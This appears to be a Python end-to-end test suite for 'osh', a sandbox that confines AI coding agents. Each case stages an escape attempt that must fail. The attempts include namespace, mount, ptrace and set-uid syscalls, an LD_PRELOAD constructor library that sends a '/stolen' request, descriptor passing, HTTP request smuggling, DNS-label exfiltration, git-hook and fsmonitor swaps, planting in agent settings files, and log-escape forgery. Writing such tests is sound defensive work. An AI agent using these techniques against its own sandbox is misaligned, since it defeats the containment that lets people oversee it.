"""The agent tries to get out: each case is an attempt, checked from outside where the inside cannot know."""
import glob
import os
import socket
import stat
import subprocess
import threading

from machine import OSH, check, need

# Each call must fail; what works is printed. Numbers are those of x86-64.
CALLS = r'''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def attempt(name, *arguments):
    ctypes.set_errno(0)
    if libc.syscall(*arguments) >= 0:
        print('WORKED', name)
attempt('unshare user', 272, 0x10000000)
attempt('unshare mount', 272, 0x20000)
attempt('setns', 308, os.open('/proc/self/ns/net', os.O_RDONLY), 0)
attempt('mount', 165, b'none', b'/tmp', b'tmpfs', 0, 0)
attempt('umount', 166, b'/tmp', 2)
attempt('umount the project', 166, b'.git/hooks', 2)
attempt('fsopen', 430, b'tmpfs', 0)
attempt('open_tree', 428, -100, b'/', 1)
attempt('mount_setattr', 442, -100, b'/usr', 0, b'\0' * 32, 32)
attempt('pivot_root', 155, b'/tmp', b'/tmp')
attempt('chroot', 161, b'/tmp')
attempt('keyctl', 250, 0, -3, 0)
attempt('io_uring_setup', 425, 1, b'\0' * 120)
attempt('bpf', 321, 0, b'\0' * 64, 64)
attempt('process_vm_writev on init', 311, 1, 0, 0, 0, 0, 0)
attempt('pidfd_getfd', 438, libc.syscall(434, 1, 0), 0, 0)
attempt('ptrace init', 101, 16, 1, 0, 0)
attempt('open_by_handle_at', 304, -100, b'\0' * 128, 0)
attempt('mknod of a device', 133, b'device', 0o020666, 0x103)
attempt('chmod set-uid', 90, b'tool', 0o4755)
attempt('creat set-uid', 85, b'made', 0o4755)
attempt('raw socket', 41, 2, 3, 255)
attempt('packet socket', 41, 17, 3, 0)
attempt('vsock', 41, 40, 1, 0)
print('end')
'''


def calls_that_rebuild_the_boundary(m):
    """Namespaces, mounts, handles, keyrings, injection, devices and set-id bits are refused, for every user."""
    m.write(m.project + '/tool', '#!/bin/sh\n', 0o755)
    done = m.inside('python3', '-c', CALLS)
    check(done.out == 'end\n', done)
    for name in os.listdir(m.project):
        mode = os.lstat(m.project + '/' + name).st_mode
        check(not mode & 0o6000 and not stat.S_ISCHR(mode), '%s has mode %o' % (name, mode))


def init_is_closed(m):
    """PID 1 inside shows no environment, memory, descriptors or root, and cannot be killed or moved."""
    done = m.shell('for f in environ mem maps auxv root/etc fd/0 cwd; do head -c 1 /proc/1/$f 2>/dev/null && echo READ $f; '
                   'ls /proc/1/$f/ 2>/dev/null && echo LISTED $f; done; kill -9 1; kill -STOP 1; echo still here')
    check(done.out == 'still here\n', done)


def inherited_descriptors(m):
    """A descriptor that the caller left open is not open inside."""
    secret = m.write(m.home + '/secret', 'SECRET-BEHIND-A-DESCRIPTOR\n', 0o600)
    with open(secret) as file, socket.socket(socket.AF_UNIX) as local:
        process = m.popen([OSH, 'run', '-q', '--profile', 'strict', '--policy', m.policy, '--', 'sh', '-c',
                           'ls /proc/self/fd | wc -l; cat <&%d; ls -l /proc/self/fd' % file.fileno()],
                          pass_fds=(file.fileno(), local.fileno()), stdin=subprocess.DEVNULL,
                          stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        out = process.communicate(timeout=30)[0].decode()
    check('SECRET' not in out and out.splitlines()[0] in ('3', '4') and secret not in out, out)


class Listener:
    """A program of the host that answers whoever reaches it."""

    def __init__(self, m, family, address):
        self.socket = socket.socket(family, socket.SOCK_STREAM)
        self.socket.bind(address)
        if family == socket.AF_UNIX:
            os.chown(address, m.uid, m.gid)
        self.socket.listen(8)
        self.reached = 0
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        try:
            while True:
                peer, _ = self.socket.accept()
                self.reached += 1
                peer.sendall(b'HOST-ANSWERED')
                peer.close()
        except OSError:
            pass

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.shutdown(socket.SHUT_RDWR)
        self.socket.close()


def sockets_in_the_project(m):
    """Sockets and FIFOs of the host that lie in the project lead nowhere."""
    m.write(m.project + '/deep/er/x', '')
    os.makedirs(m.project + '/.git', exist_ok=True)
    paths = ['daemon.sock', 'deep/er/d.sock', '.git/fsmonitor--daemon.ipc']
    listeners = [Listener(m, socket.AF_UNIX, m.project + '/' + p) for p in paths]
    os.mkfifo(m.project + '/pipe')
    os.chown(m.project + '/pipe', m.uid, m.gid)
    reader = os.open(m.project + '/pipe', os.O_RDONLY | os.O_NONBLOCK)
    done = m.inside('python3', '-c', '''
import os, socket
for path in %r:
    try:
        s = socket.socket(socket.AF_UNIX)
        s.connect(path)
        print('CONNECTED', path)
    except OSError:
        pass
try:
    os.write(os.open('pipe', os.O_WRONLY | os.O_NONBLOCK), b'x')
    print('WROTE')
except OSError:
    pass
print('end')
''' % paths)
    os.close(reader)
    reached = [one.reached for one in listeners]
    for one in listeners:
        one.__exit__()
    check(done.out == 'end\n' and reached == [0, 0, 0], '%r %r' % (reached, done))


def loopback_of_the_host(m):
    """A service on the host's loopback cannot be reached, however its address is written."""
    with Listener(m, socket.AF_INET, ('127.0.0.1', 0)) as host:
        port = host.socket.getsockname()[1]
        done = m.inside('python3', '-c', '''
import socket
for family, address in ((2, '127.0.0.1'), (2, '127.1'), (2, '0.0.0.0'), (10, '::1'), (10, '::ffff:127.0.0.1'),
                        (10, '::'), (10, '::127.0.0.1'), (10, '64:ff9b::7f00:1'), (2, 'localhost'), (2, '169.254.169.254')):
    try:
        s = socket.socket(family, socket.SOCK_STREAM)
        s.settimeout(2)
        s.connect((address, %d))
        print('REACHED', address, s.recv(20))
    except OSError:
        pass
print('end')
''' % port)
        check(done.out.endswith('end\n') and 'HOST-ANSWERED' not in done.out and host.reached == 0, done)


FOREIGN = r'''
#include <netdb.h>
#include <sys/socket.h>
#include <unistd.h>
__attribute__((constructor)) static void take(void)
{
    struct addrinfo hints = {.ai_socktype = SOCK_STREAM}, *found;
    if (getaddrinfo("only-curl.test", "80", &hints, &found)) return;
    int s = socket(found->ai_family, SOCK_STREAM, 0);
    if (connect(s, found->ai_addr, found->ai_addrlen)) return;
    char const text[] = "GET /stolen HTTP/1.1\r\nHost: only-curl.test\r\nConnection: close\r\n\r\n";
    if (write(s, text, sizeof text - 1) < 0) return;
    char answer[512];
    while (read(s, answer, sizeof answer) > 0) {}
}
'''


def identity_with_a_foreign_library(m):
    """A program that a rule names loses its name when it runs code from a place the agent can write."""
    need('gcc')
    honest = m.inside('curl', '-sS', 'http://only-curl.test/honest')
    check(honest.code == 0 and m.hits(kind='request', path='/honest'), honest)
    m.write(m.project + '/foreign.c', FOREIGN)
    built = m.run(['gcc', '-shared', '-fPIC', '-o', 'foreign.so', 'foreign.c'])
    check(built.code == 0, built)
    for way in ('LD_PRELOAD=$PWD/foreign.so', 'LD_AUDIT=$PWD/foreign.so'):
        done = m.shell('%s curl -sS -m 10 --version >/dev/null 2>&1; echo end' % way)
        check(done.out.endswith('end\n') and not m.hits(kind='request', path='/stolen'), '%s %r' % (way, done))


IN_FLIGHT = (
    'import array, os, socket, subprocess\n'
    'a, b = socket.socketpair()\n'
    'def curl(): return subprocess.run([\'curl\', \'-sS\', \'-m\', \'10\', \'http://only-curl.test/\'], capture_output=True, text=True).stdout\n'
    'a.sendmsg([b\'x\'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array(\'i\', [0]))])\n'
    'print(\'hello\' if \'hello\' in curl() else \'refused\', flush=True)\n'
    'b.recvmsg(1, 64)\n'
    'print(\'hello\' if \'hello\' in curl() else \'refused\', flush=True)\n')


def descriptors_in_transit(m):
    """A connection that two programs share, while one of them has its descriptor in flight (SCM_RIGHTS), is neither's."""
    probe = m.write(m.project + '/probe.py', open('/opt/e2e/transit_probe.py').read())
    for way in ('stream', 'datagram', 'backlog', 'nested'):
        done = m.inside('python3', probe, way, 'only-curl.test', '80')
        check('hello' not in done.out and not m.hits(kind='request', path='/stolen'), (way, done))
    journal = ''.join(open(p).read() for p in glob.glob(m.home + '/.local/state/osh/sessions/*/journal*'))
    check(journal.count('in transit') == 4, journal)
    check('hello' in m.inside('curl', '-sS', 'http://only-curl.test/').out, 'curl itself')
    # Descriptors in flight that have nothing to do with it hold an honest program up for as long as they are.
    done = m.shell('python3 -c "' + IN_FLIGHT + '"')
    check(done.out.split() == ['refused', 'hello'], done)


def request_of_one_who_let_go(m):
    """A program that opens a connection, and lets go of it before anybody can look, does not send as the one that inherited it."""
    need('gcc')
    m.write(m.project + '/thief.c', open('/opt/e2e/thief.c').read())
    built = m.run(['gcc', '-O1', '-o', 'thief', 'thief.c', '-lpthread'])
    check(built.code == 0, built)
    # What is not inspected is looked at once. With an overlay there is no broker: init hears the calls itself.
    for options in ((), ('--overlay',)):
        for way in ('sender', 'splice', 'tfo', 'threads', 'tables'):
            for _ in range(2):
                done = m.inside('./thief', way, 'only-curl.test', options=options)
                check(not m.hits(kind='request', path='/stolen/' + way), (options, way, done))
        honest = m.inside('curl', '-sS', 'http://only-curl.test/', options=options)
        check('hello' in honest.out, honest)


# A large program whose children end all the time: each takes its time over it, and its table cannot be read meanwhile.
FORKING = (
    'import os, socket, threading\n'
    'ballast = bytearray(os.urandom(1) * (256 << 20))\n'
    'def fork():\n'
    '    while True:\n'
    '        child = os.fork()\n'
    '        if not child: os._exit(0)\n'
    '        os.waitpid(child, 0)\n'
    'threading.Thread(target=fork, daemon=True).start()\n'
    'for i in range(150):\n'
    '    flow = socket.create_connection((\'site.test\', 80))\n'
    '    flow.sendall(b\'GET /ok/%d HTTP/1.1\\r\\nHost: site.test\\r\\nConnection: close\\r\\n\\r\\n\' % i)\n'
    '    print(flow.recv(4096).split()[1].decode(), flush=True)\n'
    'os._exit(0)\n')


def program_that_forks_all_the_time(m):
    """A rule that names a program holds for it also while its children come and go."""
    policy = m.write(m.home + '/python.yaml', 'version: 1\nnetwork_policies:\n  a:\n    endpoints:\n      - {host: site.test, port: 80, '
                     'protocol: rest, enforcement: enforce, access: read-only}\n    binaries: [{path: "/usr/bin/python3*"}]\n')
    script = m.write(m.project + '/forking.py', FORKING)
    done = m.run([OSH, 'run', '-q', '--profile', 'strict', '--policy', policy, '--approvals', 'deny', '--', 'python3', script], timeout=120)
    check(done.out.split() == ['200'] * 150, (done, m.osh('logs', '--denied', '--json').out[:2000]))


# As ssh-agent and gpg-agent make themselves: nobody but the host's root may list its descriptors.
UNDUMPABLE = (
    'import ctypes, os, subprocess, time\n'
    'child = os.fork()\n'
    'if not child:\n'
    '    ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)\n'
    '    time.sleep(30)\n'
    '    os._exit(0)\n'
    'while os.stat(\'/proc/%d/fd\' % child).st_uid == os.getuid() and os.getuid(): time.sleep(0.01)\n'
    'for i in range(5): print(subprocess.run([\'curl\', \'-sS\', \'-m\', \'10\', \'http://only-curl.test/\'], capture_output=True, text=True).stdout)\n'
    'os.kill(child, 9)\n')


def program_beside_an_undumpable_one(m):
    """A rule that names a program holds for it also while another one hides what it has open."""
    script = m.write(m.project + '/undumpable.py', UNDUMPABLE)
    done = m.inside('python3', script)
    check(done.out.count('hello') == 5, done)


def connection_handed_on(m):
    """Whoever sends the request must be the program that opened the connection: by exec, and by a child that inherits it."""
    policy = m.write(m.home + '/bash.yaml', 'version: 1\nnetwork_policies:\n  a:\n    endpoints:\n      - {host: site.test, port: 80, '
                     'protocol: rest, enforcement: enforce, access: read-only}\n    binaries: [{path: /usr/bin/bash}]\n')
    say = 'GET /%s HTTP/1.1\\r\\nHost: site.test\\r\\nConnection: close\\r\\n\\r\\n'
    other = ('exec 3<>/dev/tcp/site.test/80; %s python3 -c "import os,sys; os.write(3, b\'' + say % 'taken' + '\'); '
             'sys.stdout.buffer.write(os.read(3, 4096))"')
    for script, answer, taint in (('exec 3<>/dev/tcp/site.test/80; printf "' + say % 'own' + '" >&3; read -r line <&3; echo "$line"', ' 200 ', None),
                                  (other % 'exec', ' 403 ', 'handed on'), (other % '' + '; true', ' 403 ', 'shared')):
        done = m.run([OSH, 'run', '-q', '--profile', 'strict', '--policy', policy, '--approvals', 'deny', '--', 'bash', '-c', script])
        check(answer in done.out.split('\n')[0], (script, done))
        journal = ''.join(open(p).read() for p in glob.glob(m.home + '/.local/state/osh/sessions/*/journal*'))
        check(taint is None or taint in journal, journal)
    check(not m.hits(kind='request', path='/taken'), 'reached')


def websocket_is_no_tunnel(m):
    """A GET rule alone lets no WebSocket handshake through."""
    done = m.inside('curl', '-sS', '-m', '10', '-w', '\n%{http_code}', '-H', 'Connection: Upgrade', '-H', 'Upgrade: websocket',
                    '-H', 'Sec-WebSocket-Version: 13', '-H', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
                    'http://site.test/ok/ws')
    check(done.out.endswith('403') and 'WEBSOCKET_TEXT' in done.out, done)
    check(not m.hits(kind='request'), 'the handshake went out')


def smuggled_and_odd_requests(m):
    """Requests that two parsers could read differently are refused, and nothing forbidden reaches the upstream."""
    heads = ['POST /echo HTTP/1.1\r\nHost: site.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n'
             '0\r\n\r\nGET /forbidden HTTP/1.1\r\nHost: site.test\r\n\r\n',
             'POST /echo HTTP/1.1\r\nHost: site.test\r\nTransfer-Encoding: xchunked\r\n\r\nGET /forbidden HTTP/1.1\r\n\r\n',
             'GET /ok/a HTTP/1.1\r\nHost: site.test\r\nHost: other.test\r\n\r\n',
             'GET http://other.test/forbidden HTTP/1.1\r\nHost: site.test\r\n\r\n',
             'GET /ok/a HTTP/1.1\nHost: site.test\n\n', 'GET /ok/%2e%2e/forbidden HTTP/1.1\r\nHost: site.test\r\n\r\n',
             'TRACE /ok/a HTTP/1.1\r\nHost: site.test\r\n\r\n', 'CONNECT other.test:443 HTTP/1.1\r\nHost: other.test:443\r\n\r\n',
             'GET /ok/a HTTP/1.1\r\nHost: ' + 'a' * 70000 + '\r\n\r\n',
             'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n']
    done = m.inside('python3', '-c', '''
import socket
for head in %r:
    s = socket.create_connection(('site.test', 80), 5)
    s.settimeout(5)
    try:
        s.sendall(head.encode())
        print(ascii((s.recv(200) or b'CLOSED').split(b'\\r\\n')[0].decode('latin-1')))
    except OSError:
        print('RESET')
    s.close()
''' % heads)
    check(len(done.out.splitlines()) == len(heads) and ' 200 ' not in done.out, done)
    check(not m.hits(kind='request'), 'reached: %r' % m.hits(kind='request'))


def names_carry_nothing_out(m):
    """Labels of a name that no rule knows never leave, also when they are as long as they may be."""
    label = 'k' * 63
    done = m.inside('python3', '-c', '''
import socket
for name in ('%s.denied.test', '.'.join(['%s'] * 3), 'a.site.test', 'x' * 300, 'site.test\\\\0.denied.test'):
    try:
        print('ANSWER', name, socket.getaddrinfo(name, 80))
    except (OSError, UnicodeError, ValueError):
        pass
print('end')
''' % (label, label))
    check(done.code == 0 and done.out.endswith('end\n'), done)
    check(not [h for h in m.hits(kind='dns') if 'kkk' in str(h) or 'denied' in str(h)], 'looked up: %r' % m.hits(kind='dns'))


def git_cannot_be_swapped(m):
    """Hooks and git's configuration survive renames, links and a race, as they were."""
    need('git')
    made = m.run(['git', 'init', '-q', '.'])
    check(made.code == 0, made)
    os.makedirs(m.project + '/.git/hooks', exist_ok=True)
    before = sorted(os.listdir(m.project + '/.git/hooks'))
    done = m.shell('''mv .git .moved; mv .git/hooks .git/old; mkdir new && mv -T new .git/hooks; rmdir .git/hooks
ln -sfn /tmp .git/hooks; ln -f /etc/passwd .git/config; echo "[core]" > c; mv -f c .git/config; cp c .git/config
echo x > .git/hooks/pre-commit; echo "[alias]" >> .git/config; git config core.fsmonitor ./evil
( i=0; while [ $i -lt 300 ]; do mkdir r 2>/dev/null; mv -T r .git/hooks; ln -s .git/hooks r; rm -rf r; i=$((i+1)); done ) &
( i=0; while [ $i -lt 300 ]; do echo x > .git/hooks/pre-push; echo x > r/pre-push; i=$((i+1)); done ) & wait; echo end''')
    check(done.out.endswith('end\n'), done)
    check(sorted(os.listdir(m.project + '/.git/hooks')) == before and not os.path.islink(m.project + '/.git/hooks'), 'hooks')
    # It may be removed, as all of .git may; what it says never is the agent's.
    listed = m.run(['git', 'config', '--local', '--list'])
    check('fsmonitor' not in listed.out and 'alias' not in listed.out, listed)


def editor_and_agent_settings(m):
    """What editors, agents and package managers obey stays as it was, where it exists."""
    names = ['.vscode/tasks.json', '.idea/workspace.xml', '.devcontainer/devcontainer.json', '.claude/settings.json',
             '.codex/config.toml', '.gemini/settings.json', '.cursor/mcp.json', '.mcp.json', '.envrc', '.npmrc']
    for name in names:
        m.write(m.project + '/' + name, 'as it was\n')
    done = m.shell('for f in %s; do echo planted > $f; rm -f $f; mv $f moved; d=$(dirname $f); [ $d = . ] || mv $d gone; done '
                   '2>/dev/null; echo end' % ' '.join(names))
    check(done.out.endswith('end\n'), done)
    for name in names:
        check(open(m.project + '/' + name).read() == 'as it was\n', name)


def masked_files(m):
    """A secret file of the project cannot be read by any other name."""
    m.write(m.project + '/.env', 'SECRET-OF-PROJECT\n')
    m.write(m.project + '/secrets/a/b', 'SECRET-OF-PROJECT\n')
    done = m.shell('cat .env secrets/a/b; ln .env copy; cat copy; mv .env moved; cat moved; mv secrets s; cat s/a/b; '
                   'cat /proc/self/cwd/.env; cat /proc/self/root$PWD/.env; cd secrets && cat a/b; echo end')
    check('SECRET' not in done.out + done.err and done.out.endswith('end\n'), done)


def our_own_places(m):
    """The state directory, profiles, runtime directory and control socket are not there, by any path."""
    runtime = '/run/user/%d/osh' % m.uid
    done = m.shell('ls -A ~/.local/state/osh %s ~/.config/osh /opt/osh 2>/dev/null; ls -A /run/user/*; '
                   'mkdir -p ~/.local/state/osh ~/.config/osh/profiles && echo x > ~/.config/osh/profiles/strict.toml; '
                   'echo x > ~/.local/state/osh/planted; echo end' % runtime)
    check(done.out.endswith('end\n') and 'sock' not in done.out, done)
    check(not os.path.exists(m.home + '/.config/osh/profiles/strict.toml'), 'a profile was planted')
    check(not os.path.exists(m.home + '/.local/state/osh/planted'), 'the state directory was written')


def forged_journal(m):
    """Escapes, line ends and direction marks of the agent stay text in `osh logs` and in the report on the terminal."""
    done = m.inside('python3', '-c', r'''
import socket
for target in (b'/a\x1b]0;title\x07', b'/\xe2\x80\xaeok', b'/b%0a{"kind":"forged"}', b'/c?x=\x9b31m'):
    s = socket.create_connection(('site.test', 80), 5)
    s.sendall(b'GET ' + target + b' HTTP/1.1\r\nHost: site.test\r\nUser-Agent: \x1b[31m\r\n\r\n')
    s.recv(100)
print('end')
''')
    check(done.out == 'end\n', done)
    for words in (['logs', 'last'], ['logs', 'last', '--json']):
        told = m.osh(*words)
        bad = [c for c in told.out + told.err if (ord(c) < 32 and c != '\n') or c in '\x7f\u202e\u2028' or 0x80 <= ord(c) < 0xa0]
        check(told.code == 0 and not bad and not told.out.startswith('{"kind":"forged"') and '\n{"kind":"forged"' not in told.out,
              '%r %r' % (bad, told))


def report_of_a_session(m):
    """`osh report` tells what the session reached and was refused, without the agent's escapes."""
    m.inside('curl', '-sS', 'http://site.test/ok/a', 'http://site.test/forbidden')
    for words, wanted in ((['report'], 'site.test'), (['report', 'last', '--full'], '/forbidden'), (['report', '--json'], '{"v":1')):
        told = m.osh(*words)
        check(told.code == 0 and wanted in told.out and '\x1b' not in told.out, told)


def commits_carry_the_name(m):
    """git commits inside under the person's name, and nothing else of the person's configuration comes in."""
    need('git')
    m.write(m.home + '/.gitconfig', '[user]\n\tname = Ada "L" Test\n\temail = ada@example.test\n'
            '[url "https://x:SECRET-TOKEN@git.test/"]\n\tinsteadOf = https://git.test/\n')
    check(m.run(['git', 'init', '-q', '.']).code == 0, 'git init')
    done = m.shell('echo x > f && git add f && git commit -q -m one && git log --format=%an:%ae; git config --list')
    check('Ada L Test:ada@example.test' in done.out and 'SECRET' not in done.out, done)


CASES = [report_of_a_session, commits_carry_the_name, calls_that_rebuild_the_boundary, init_is_closed, inherited_descriptors, sockets_in_the_project, loopback_of_the_host,
         identity_with_a_foreign_library, descriptors_in_transit, request_of_one_who_let_go, connection_handed_on, program_that_forks_all_the_time, program_beside_an_undumpable_one, websocket_is_no_tunnel, smuggled_and_odd_requests, names_carry_nothing_out,
         git_cannot_be_swapped, editor_and_agent_settings, masked_files, our_own_places, forged_journal]
